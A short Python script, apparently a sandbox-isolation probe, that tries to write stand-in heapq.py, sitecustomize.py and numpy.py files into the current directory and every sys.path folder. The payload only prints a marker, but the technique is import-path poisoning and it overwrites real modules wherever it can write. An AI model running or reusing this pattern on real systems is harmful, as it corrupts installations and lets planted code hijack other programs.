"""Leaves modules and caches where later programs might import them."""

import os
import sys

for folder in (".", *sys.path):
    for name in ("heapq.py", "sitecustomize.py", "numpy.py", "__pycache__"):
        try:
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write("print('never printed')")
        except OSError:
            pass
